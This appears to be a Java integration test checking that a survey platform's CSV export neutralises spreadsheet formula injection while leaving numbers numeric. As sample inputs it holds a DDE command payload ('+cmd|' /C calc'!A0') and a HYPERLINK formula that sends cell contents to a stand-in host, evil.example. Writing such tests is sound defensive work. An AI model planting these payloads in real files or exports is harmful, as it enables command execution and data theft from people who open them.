package org.alliancehub.survey;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.alliancehub.IntegrationTest;
import org.alliancehub.survey.SurveyFixtures.Field;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/** The raw CSV export opened in a spreadsheet: what members typed is shown as text, never run as a formula. */
class RawExportIntegrationTests extends IntegrationTest {

	@Test
	void formulasInAnswersAndOrganisationNamesAreNeutralisedAndNumbersStayNumbers() throws Exception {
		SurveyFixtures fixtures = new SurveyFixtures(admin(), "http://127.0.0.1:" + port);
		String slug = (String) fixtures.alliance("csv")[1];
		String name = "+cmd|' /C calc'!A0 " + UUID.randomUUID();
		long org = admin().post("/api/v1/organizations", Map.of("name", name, "type", "ENTERPRISE", "region", "北京市"))
			.json().get("id").asLong();
		admin().post("/api/v1/alliances/" + slug + "/members", Map.of("organizationId", org, "role", "MEMBER"));
		long survey = fixtures.draft(slug, "导出测试", "2024", null, null, List.of(new Field("profit", "利润", "DECIMAL", "万元"),
				new Field("note", "说明", "TEXT", null), new Field("other", "其他", "TEXT", null)));
		fixtures.publish(survey);
		fixtures.answer(survey, org, true,
				Map.of("profit", -12.5, "note", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此\")", "other", "@SUM(1+1)"));
		String token = fixtures.token(fixtures.secretariatUser(slug));

		HttpResponse<byte[]> r = fixtures.bytes("/api/v1/surveys/" + survey + "/export.csv", token);
		assertThat(r.statusCode()).isEqualTo(200);
		byte[] body = r.body();
		assertThat(new byte[] { body[0], body[1], body[2] }).containsExactly(0xEF, 0xBB, 0xBF);
		String text = new String(body, 3, body.length - 3, StandardCharsets.UTF_8);
		List<CSVRecord> records = CSVFormat.RFC4180.parse(new java.io.StringReader(text)).getRecords();
		assertThat(records).hasSize(2);
		CSVRecord row = records.get(1);
		assertThat(row.get(1)).isEqualTo("'" + name);
		assertThat(row.get(7)).isEqualTo("-12.5");
		assertThat(row.get(8)).isEqualTo("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此\")");
		assertThat(row.get(9)).isEqualTo("'@SUM(1+1)");
		for (String cell : row) {
			assertThat(cell).as("no cell starts a formula").doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@");
		}
	}
}
